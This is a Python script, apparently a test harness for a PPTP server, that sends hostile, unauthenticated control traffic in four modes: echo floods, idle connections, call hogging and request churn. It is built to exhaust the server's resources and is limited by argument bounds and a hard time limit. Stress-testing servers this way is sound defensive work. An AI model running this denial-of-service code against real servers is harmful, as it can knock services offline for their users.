#!/usr/bin/env python3
"""Cheap, unauthenticated PPTP control traffic, as a hostile peer on the internet would send it.

Each mode is one row of issue 14's table; every run is bounded by its arguments and by a hard time
limit, and ends with one summary line ("pptp_attacker: mode=... key=value ...") on stdout.

  echo-flood    (row 1) --connections TCP connections each send a Start-Control-Connection-Request
                then Echo-Requests (--rate messages a second in all, shared evenly) and never read a
                byte (their receive buffers are small: --rcvbuf, 4096 unless given).
  idle-connect  (row 3) --connections TCP connections from one source address that send nothing
                (--partial: only the first 6 bytes of a header); one the server closes is opened
                again after --reconnect-delay.
  call-hog      (row 4) --connections connections, each a handshake then --count Outgoing-Call-Requests
                that are never authenticated (answering the server's Echo-Requests, to hold the calls).
  ocrq-churn    (row 5) one connection: a handshake, then Outgoing-Call-Request + Call-Clear-Request
                pairs, --rate pairs a second, up to --count, at most --window of them unanswered (so
                that a server that bounds its queued replies keeps serving us).

Every mode connects again (after --reconnect-delay) when the server closes a connection, so what it
holds is limited by the server, not by our patience. Only the server named by --server is contacted.

Message layouts: RFC 2637 section 2 (a 12-byte header: length, PPTP message type 1 = control, the
magic cookie 0x1A2B3C4D, control message type, a reserved 0).
"""
import argparse
import errno
import os
import selectors
import signal
import socket
import struct
import sys
import time

MAGIC_COOKIE = 0x1A2B3C4D  # RFC 2637 §2
CONTROL_MESSAGE = 1  # PPTP Message Type: control (RFC 2637 §2)

# Control Message Types (RFC 2637 §2).
SCCRQ, SCCRP, STOPCCRQ, STOPCCRP, ECHO_RQ, ECHO_RP, OCRQ, OCRP = 1, 2, 3, 4, 5, 6, 7, 8
CCRQ, CDN = 12, 13

MAX_DURATION = 120.0  # seconds: no argument makes a run longer than this
MAX_MESSAGE = 1024  # longer than any RFC 2637 control message: a framing error


def header(length, message_type):
    return struct.pack(">HHIHH", length, CONTROL_MESSAGE, MAGIC_COOKIE, message_type, 0)


def name_field(text):
    return text.encode().ljust(64, b"\0")


def sccrq():
    # RFC 2637 §2.1: version 1.0, reserved, framing (sync | async), bearer (analog | digital), maximum
    # channels 0 (a PNS), firmware revision, host name, vendor name: 156 bytes.
    body = struct.pack(">HHIIHH", 0x0100, 0, 3, 3, 0, 1) + name_field("attacker") + name_field("pptp_attacker")
    return header(156, SCCRQ) + body


def echo_request(identifier):
    # RFC 2637 §2.5: identifier: 16 bytes.
    return header(16, ECHO_RQ) + struct.pack(">I", identifier & 0xFFFFFFFF)


def echo_reply(identifier):
    # RFC 2637 §2.6: identifier, result code 1 (OK), error code 0, reserved: 20 bytes.
    return header(20, ECHO_RP) + struct.pack(">IBBH", identifier, 1, 0, 0)


def outgoing_call_request(call_id, serial):
    # RFC 2637 §2.7: call id, call serial number, minimum and maximum BPS, bearer type 3 (any), framing
    # type 3 (any), receive window 64, processing delay 0, phone number length, reserved, phone number,
    # subaddress: 168 bytes.
    body = struct.pack(">HHIIIIHHHH", call_id & 0xFFFF, serial & 0xFFFF, 300, 100000000, 3, 3, 64, 0, 0, 0)
    return header(168, OCRQ) + body + bytes(64) + bytes(64)


def call_clear_request(call_id):
    # RFC 2637 §2.12: the PNS's call id, reserved: 16 bytes.
    return header(16, CCRQ) + struct.pack(">HH", call_id & 0xFFFF, 0)


class Framer:
    """Splits a received byte stream into control messages (type, bytes)."""

    def __init__(self):
        self.buffer = bytearray()

    def feed(self, data):
        self.buffer += data
        messages = []
        while len(self.buffer) >= 12:
            length, pptp_type, cookie, message_type, _ = struct.unpack_from(">HHIHH", self.buffer)
            if length < 12 or length > MAX_MESSAGE or pptp_type != CONTROL_MESSAGE or cookie != MAGIC_COOKIE:
                raise ValueError("framing error from the server (length %d, cookie 0x%08x)" % (length, cookie))
            if len(self.buffer) < length:
                break
            messages.append((message_type, bytes(self.buffer[:length])))
            del self.buffer[:length]
        return messages


class Bucket:
    """A token bucket: `rate` tokens a second, at most one second's worth saved up."""

    def __init__(self, rate, now):
        self.rate = float(rate)
        self.tokens = 0.0
        self.last = now

    def take(self, wanted, now):
        self.tokens = min(self.rate, self.tokens + (now - self.last) * self.rate)
        self.last = now
        n = min(wanted, int(self.tokens))
        self.tokens -= n
        return n


class Link:
    """One TCP connection to the server and what we still have to write on it."""

    def __init__(self, slot):
        self.slot = slot
        self.sock = None
        self.connected = False
        self.out = bytearray()
        self.framer = Framer()
        self.handshake_done = False
        self.opened_at = 0.0
        self.events = 0  # what the selector watches for (0: not registered)
        self.sent = 0  # messages queued on this connection (mode specific)


class Attack:
    def __init__(self, args):
        self.args = args
        self.selector = selectors.DefaultSelector()
        self.start = time.monotonic()
        self.end = self.start + args.duration
        self.links = []
        self.reopen_at = {}  # slot -> monotonic time
        self.bucket = Bucket(args.rate, self.start)
        self.stats = {
            "connects": 0,  # connect() calls
            "established": 0,  # connections the server's kernel completed
            "connect_failures": 0,  # refused, reset or timed out before established
            "closed_by_server": 0,
            "bytes_sent": 0,
            "bytes_received": 0,
        }
        self.lifetimes = []

    # --- connections -------------------------------------------------------------------------------

    def open(self, slot):
        link = Link(slot)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        if self.args.rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.args.rcvbuf)
        if self.args.source:
            s.bind((self.args.source, 0))
        self.stats["connects"] += 1
        err = s.connect_ex((self.args.server, self.args.port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            self.stats["connect_failures"] += 1
            self.reopen_at[slot] = time.monotonic() + self.args.reconnect_delay
            return
        link.sock = s
        link.opened_at = time.monotonic()
        self.links.append(link)
        self.watch(link)

    def lost(self, link, by_server):
        if link.sock is None:
            return
        if link.events:
            self.selector.unregister(link.sock)
        link.sock.close()
        link.sock = None
        self.links.remove(link)
        if link.connected:
            if by_server:
                self.stats["closed_by_server"] += 1
                self.lifetimes.append(time.monotonic() - link.opened_at)
        else:
            self.stats["connect_failures"] += 1
        self.reopen_at[link.slot] = time.monotonic() + self.args.reconnect_delay

    def watch(self, link):
        """Watches what the link waits for: writability only while it has bytes to write (the loop
        refills on the clock), readability only in modes that read. A link waiting for nothing is not
        watched at all: a mode that never reads would otherwise see its unread bytes forever."""
        events = 0
        if self.reads():
            events |= selectors.EVENT_READ
        if link.out or not link.connected:
            events |= selectors.EVENT_WRITE
        if events == link.events:
            return
        if link.events == 0:
            self.selector.register(link.sock, events, link)
        elif events == 0:
            self.selector.unregister(link.sock)
        else:
            self.selector.modify(link.sock, events, link)
        link.events = events

    def flush(self, link):
        while link.out:
            try:
                n = link.sock.send(link.out)
            except BlockingIOError:
                return True
            except OSError:
                self.lost(link, by_server=True)
                return False
            self.stats["bytes_sent"] += n
            del link.out[:n]
        return True

    def on_event(self, link, mask):
        if not link.connected:
            err = link.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err != 0:
                self.lost(link, by_server=False)
                return
            link.connected = True
            self.stats["established"] += 1
            self.on_connected(link)
        if mask & selectors.EVENT_READ:
            if self.reads():
                try:
                    data = link.sock.recv(65536)
                except BlockingIOError:
                    data = None
                except OSError:
                    self.lost(link, by_server=True)
                    return
                if data == b"":
                    self.lost(link, by_server=True)
                    return
                if data:
                    self.stats["bytes_received"] += len(data)
                    try:
                        for message_type, message in link.framer.feed(data):
                            self.on_message(link, message_type, message)
                    except ValueError as e:
                        print("pptp_attacker: %s" % e, file=sys.stderr)
                        self.lost(link, by_server=True)
                        return
        if link.sock is None:
            return
        self.fill(link, time.monotonic())
        if not self.flush(link):
            return
        self.watch(link)

    # --- the loop ---------------------------------------------------------------------------------

    def run(self):
        for slot in range(self.args.connections):
            self.open(slot)
        while True:
            now = time.monotonic()
            if now >= self.end:
                break
            for slot, at in list(self.reopen_at.items()):
                if at <= now:
                    del self.reopen_at[slot]
                    self.open(slot)
            # Modes that send on a clock refill the links the bucket allows.
            for link in list(self.links):
                if link.sock is not None and link.connected:
                    self.fill(link, now)
                    if self.flush(link) and link.sock is not None:
                        self.watch(link)
            timeout = min(0.02, max(0.0, self.end - now))
            for key, mask in self.selector.select(timeout):
                link = key.data
                if link.sock is not None:
                    self.on_event(link, mask)
        for link in list(self.links):
            link.sock.close()
        self.selector.close()

    # --- what each mode does (overridden) ---------------------------------------------------------

    def reads(self):
        return True

    def on_connected(self, link):
        pass

    def fill(self, link, now):
        pass

    def on_message(self, link, message_type, message):
        if message_type == SCCRP:
            link.handshake_done = True
            result = message[14]
            self.count("sccrp_ok" if result == 1 else "sccrp_refused")
        elif message_type == ECHO_RQ and self.args.answer_echo:
            identifier = struct.unpack_from(">I", message, 12)[0]
            link.out += echo_reply(identifier)
            self.count("echo_answered")
        elif message_type == OCRP:
            result = message[16]
            self.count("ocrp_connected" if result == 1 else "ocrp_refused")
        elif message_type == CDN:
            self.count("cdn")
        elif message_type == STOPCCRQ:
            self.count("stopccrq")

    def count(self, key, n=1):
        self.stats[key] = self.stats.get(key, 0) + n

    def summary(self):
        elapsed = time.monotonic() - self.start
        fields = ["mode=%s" % self.args.mode, "server=%s:%d" % (self.args.server, self.args.port),
                  "source=%s" % (self.args.source or "any"), "seconds=%.1f" % elapsed,
                  "connections=%d" % self.args.connections]
        fields += ["%s=%d" % (k, v) for k, v in self.stats.items()]
        if self.lifetimes:
            fields.append("lifetime_s_min=%.1f" % min(self.lifetimes))
            fields.append("lifetime_s_max=%.1f" % max(self.lifetimes))
        return "pptp_attacker: " + " ".join(fields)


class EchoFlood(Attack):
    """Row 1: a handshake, then Echo-Requests; every reply is left unread. Each connection has its own
    share of --rate, so that all of them back up into the server at once."""

    def reads(self):
        return False

    def on_connected(self, link):
        link.out += sccrq()
        link.bucket = Bucket(self.args.rate / self.args.connections, time.monotonic())

    def fill(self, link, now):
        if link.out or self.stats.get("echo_sent", 0) >= self.args.count:
            return
        n = link.bucket.take(min(64, self.args.count - self.stats.get("echo_sent", 0)), now)
        for _ in range(n):
            link.sent += 1
            link.out += echo_request(link.sent)
        self.count("echo_sent", n)


class IdleConnect(Attack):
    """Row 3: connections that never finish (or never start) a handshake."""

    def on_connected(self, link):
        if self.args.partial:
            link.out += sccrq()[:6]


class CallHog(Attack):
    """Row 4: a handshake, then --count Outgoing-Call-Requests that never authenticate."""

    def on_connected(self, link):
        link.out += sccrq()

    def fill(self, link, now):
        while link.handshake_done and link.sent < self.args.count:
            link.sent += 1
            call_id = (link.slot << 8) + link.sent
            link.out += outgoing_call_request(call_id, call_id)
            self.count("ocrq_sent")


class OcrqChurn(Attack):
    """Row 5: Outgoing-Call-Request + Call-Clear-Request pairs on one connection, at --rate."""

    def on_connected(self, link):
        link.out += sccrq()
        link.answered = 0

    def on_message(self, link, message_type, message):
        super().on_message(link, message_type, message)
        if message_type == OCRP:
            link.answered += 1

    def fill(self, link, now):
        if not link.handshake_done or link.out:
            return
        unanswered = link.sent - link.answered
        wanted = min(self.args.window - unanswered, self.args.count - self.stats.get("pairs_sent", 0))
        if wanted <= 0:
            return
        n = self.bucket.take(wanted, now)
        for _ in range(n):
            link.sent += 1
            call_id = link.sent & 0xFFFF or 1
            link.out += outgoing_call_request(call_id, link.sent) + call_clear_request(call_id)
        self.count("pairs_sent", n)


MODES = {"echo-flood": EchoFlood, "idle-connect": IdleConnect, "call-hog": CallHog, "ocrq-churn": OcrqChurn}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("mode", choices=sorted(MODES))
    p.add_argument("--server", required=True, help="the PPTP server's IPv4 address (the only one contacted)")
    p.add_argument("--port", type=int, default=1723)
    p.add_argument("--source", help="the local IPv4 address to connect from")
    p.add_argument("--connections", type=int, default=1, help="connections held at once (at most 1000)")
    p.add_argument("--count", type=int, default=100000,
                   help="echo-flood: Echo-Requests in all; call-hog: calls per connection; "
                   "ocrq-churn: request pairs in all (at most 1000000)")
    p.add_argument("--rate", type=float, default=5000.0,
                   help="echo-flood, ocrq-churn: messages (pairs) a second in all (at most 100000)")
    p.add_argument("--duration", type=float, default=10.0, help="seconds (at most %d)" % MAX_DURATION)
    p.add_argument("--window", type=int, default=8, help="ocrq-churn: request pairs sent and not yet answered")
    p.add_argument("--reconnect-delay", type=float, default=0.5,
                   help="seconds before a connection the server closed is opened again")
    p.add_argument("--partial", action="store_true", help="idle-connect: send the first 6 bytes of a header")
    p.add_argument("--rcvbuf", type=int, default=0, help="SO_RCVBUF of our sockets (0: the kernel's default)")
    p.add_argument("--no-echo-answer", dest="answer_echo", action="store_false",
                   help="leave the server's Echo-Requests unanswered")
    args = p.parse_args()
    if not (0 < args.duration <= MAX_DURATION and 0 < args.connections <= 1000 and 0 < args.count <= 1000000
            and 0 < args.rate <= 100000 and 0 < args.window <= 1000 and args.reconnect_delay >= 0.01):
        p.error("an argument is out of its bounds (see --help)")
    if args.mode == "ocrq-churn" and args.connections != 1:
        p.error("ocrq-churn uses one connection")
    if args.mode == "echo-flood" and args.rcvbuf == 0:
        args.rcvbuf = 4096  # what we never read backs up into the server sooner

    attack = MODES[args.mode](args)

    # The hard limit: whatever happens inside, the process ends a few seconds after --duration.
    def out_of_time(signum, frame):
        print(attack.summary() + " hard_time_limit=1", flush=True)
        os._exit(3)

    signal.signal(signal.SIGALRM, out_of_time)
    signal.alarm(int(args.duration) + 5)
    signal.signal(signal.SIGTERM, lambda signum, frame: sys.exit(0))
    try:
        attack.run()
    finally:
        signal.alarm(0)
        print(attack.summary(), flush=True)


if __name__ == "__main__":
    main()
